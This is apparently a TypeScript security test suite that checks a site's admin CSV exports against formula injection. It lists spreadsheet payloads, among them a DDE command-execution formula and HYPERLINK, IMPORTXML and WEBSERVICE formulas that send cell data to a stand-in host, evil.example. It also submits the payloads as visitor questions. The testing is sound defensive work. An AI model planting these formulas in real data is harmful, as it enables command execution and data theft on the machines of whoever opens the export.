import { parse } from 'csv-parse/sync';
import { writeCsv } from '../../src/core/export/csv.ts';
import { HOSTILE_CASES } from '../helpers/hostile.ts';
import type { Attack, AttackGroup } from './attack.ts';
import { SITE } from './target.ts';
import type { Target } from './target.ts';

/** What spreadsheets take for a formula, plain and in disguise. */
const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=cmd|"/c calc"!A0',
    '=HYPERLINK("http://evil.example?"&A1)',
    '|calc',
    '%0',
    '\t=1+1',
    '\r=1+1',
  ],
  ...[
    '\n=1+1',
    ' =1+1',
    '  +1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '"=1+1',
    "'=1+1",
  ],
  ...[
    '";=1+1;"',
    '\u0000=1+1',
    '\u2028=1',
    '=\n1',
    '==1',
    '-@1',
    '=IMPORTXML("http://evil.example")',
    '=WEBSERVICE("http://evil.example")',
  ],
];
const RUNS = /^[\s\u0000-\u0020\u00a0\u200b\ufeff]*[=+\-@|%\uff0b\uff0d\uff1d\uff20]/;

function cell(text: string): string | null {
  const rows: string[][] = parse(writeCsv([[text, 'end']]), { bom: true, relax_column_count: true });
  if (rows.length !== 1 || rows[0]?.length !== 2) return 'made cells of its own';
  return RUNS.test(rows[0][0] ?? '') ? 'would run' : null;
}

/** A question or a message of a visitor, as it comes out of the editors' table. */
async function exported(target: Target, path: string, marks: readonly string[]): Promise<string | null> {
  const session = await target.session('manager');
  const answer = await session.get(`/api/admin/sites/${SITE}/${path}`);
  if (answer.status !== 200) return `answered ${String(answer.status)}`;
  const rows: string[][] = parse(answer.text, { bom: true, relax_column_count: true });
  const width = rows[0]?.length ?? 0;
  if (rows.some((row) => row.length !== width)) return 'has rows of another length';
  const running = rows.flat().find((text) => RUNS.test(text) && !/^-?\d+(?:\.\d+)?$/.test(text.trim()));
  if (running !== undefined) return `a cell would run: ${running.slice(0, 60)}`;
  return marks.length > 0 && !marks.some((mark) => answer.text.includes(mark)) ? 'the attack never came there' : null;
}

function askAll(target: Target): Promise<unknown> {
  return Promise.all(FORMULAS.map((text) => target.visit(`/it/ask/?q=${encodeURIComponent(`${text} evil.example`)}`)));
}

/** What visitors write comes out of exports as text: no formula, no cell of its own. */
export const exportsGroup: AttackGroup = {
  attacks: (target) => {
    const texts = [...FORMULAS, ...HOSTILE_CASES.map(({ text }) => text)];
    const cells = texts.map((text): Attack => ({
      name: `cell ${JSON.stringify(text.slice(0, 50))}`,
      run: () => Promise.resolve(cell(text)),
    }));
    return Promise.resolve([
      ...cells,
      {
        name: 'questions that are formulas',
        run: async () => {
          await askAll(target);
          return exported(target, 'questions/export', ['evil.example']);
        },
      },
      ...['redirects/export', 'messages/export', 'assistant/tests/export'].map((path) => ({
        name: path,
        run: () => exported(target, path, []),
      })),
    ]);
  },
};
